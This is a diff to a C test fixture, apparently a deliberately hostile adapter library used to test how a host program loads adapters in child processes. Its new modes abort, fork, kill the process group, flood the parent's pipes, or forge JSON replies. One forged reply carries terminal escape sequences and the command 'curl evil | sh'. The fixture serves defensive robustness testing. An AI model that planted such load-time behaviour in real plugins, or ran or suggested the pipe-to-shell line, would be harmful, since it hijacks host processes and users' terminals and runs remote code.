@@ -10,8 +10,13 @@
 #define _DEFAULT_SOURCE
 #include <accounts_adapter.h>
 
+#include <fcntl.h>
+#include <pthread.h>
+#include <signal.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #define MODE_LOOP 1            /* SEND forever */
@@ -34,6 +39,14 @@
 #define MODE_ABORT_ON_LOAD 18  /* a constructor calls abort() */
 #define MODE_HANG_ON_LOAD 19   /* a constructor sleeps for 60 s */
 #define MODE_ECHO_SETTINGS 20  /* declares a secret setting; LOGIN returns what it was given */
+/* While loading, for the commands that load adapters in child processes (adapters, doctor): */
+#define MODE_JUNK_ON_PIPE 21   /* writes a junk line to every pipe it finds */
+#define MODE_FORGE_ON_PIPE 22  /* writes answers for FORGED_PATH, with escapes, to every pipe */
+#define MODE_FLOOD_PIPE 23     /* writes to every pipe it finds without end or line break */
+#define MODE_KILL_GROUP 24     /* kill(0, SIGTERM): its whole process group */
+#define MODE_FORK_ON_LOAD 25   /* forks a process that writes its pid to SENTINEL and sleeps */
+#define MODE_LATE_ABORT 26     /* a thread that calls abort() 1 s later */
+#define MODE_SLOW_LOAD 27      /* a constructor that sleeps 2 s */
 
 #ifndef MODE
 #error "define MODE"
@@ -48,6 +61,59 @@ static int marker;
 __attribute__((constructor)) static void abort_on_load(void) { abort(); }
 #elif MODE == MODE_HANG_ON_LOAD
 __attribute__((constructor)) static void hang_on_load(void) { sleep(60); }
+#elif MODE == MODE_SLOW_LOAD
+__attribute__((constructor)) static void slow_load(void) { sleep(2); }
+#elif MODE == MODE_KILL_GROUP
+__attribute__((constructor)) static void kill_group(void) { kill(0, SIGTERM); }
+#elif MODE == MODE_LATE_ABORT
+static void *abort_later(void *unused) {
+  (void)unused;
+  sleep(1);
+  abort();
+}
+__attribute__((constructor)) static void start_late_abort(void) {
+  pthread_t thread;
+  pthread_create(&thread, NULL, abort_later, NULL);
+}
+#elif MODE == MODE_FORK_ON_LOAD
+__attribute__((constructor)) static void fork_on_load(void) {
+  if (fork() != 0) return;
+  char text[32];
+  int length = snprintf(text, sizeof text, "%d", (int)getpid());
+  int descriptor = open(SENTINEL, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+  if (descriptor >= 0) {
+    if (write(descriptor, text, (size_t)length) < 0) _exit(1);
+    close(descriptor);
+  }
+  sleep(30);
+  _exit(0);
+}
+#elif MODE == MODE_JUNK_ON_PIPE || MODE == MODE_FORGE_ON_PIPE || MODE == MODE_FLOOD_PIPE
+/* What an adapter can do to the pipe its parent reads: find it with fstat. */
+static char flood[1 << 16];
+__attribute__((constructor)) static void write_on_pipes(void) {
+#if MODE == MODE_JUNK_ON_PIPE
+  const char *text = "hello\n";
+#elif MODE == MODE_FORGE_ON_PIPE
+  const char *text =
+      "{\"entry\":{\"path\":\"" FORGED_PATH "\",\"name\":\"example\",\"description\":{\"name\":"
+      "\"\\u001b]0;PWNED\\u0007\\u001b[31mFAKE\",\"version\":\"9\",\"summary\":\"all good\","
+      "\"abi\":65536,\"path\":\"" FORGED_PATH "\",\"settings\":[]}}}\n"
+      "{\"entry\":{\"path\":\"" FORGED_PATH "\",\"name\":\"example\",\"refusal\":\"run: curl evil | sh\"}}\n";
+#else
+  memset(flood, 'x', sizeof flood);
+  const char *text = flood;
+#endif
+  for (int descriptor = 3; descriptor < 64; descriptor++) {
+    struct stat status;
+    if (fstat(descriptor, &status) != 0 || !S_ISFIFO(status.st_mode)) continue;
+    if (MODE == MODE_FLOOD_PIPE) {
+      while (write(descriptor, flood, sizeof flood) > 0) {}
+    } else if (write(descriptor, text, strlen(text)) < 0) {
+      continue;
+    }
+  }
+}
 #endif
 
 /* MODE_ECHO_SETTINGS: the value of api_key this session was given, or "absent". */
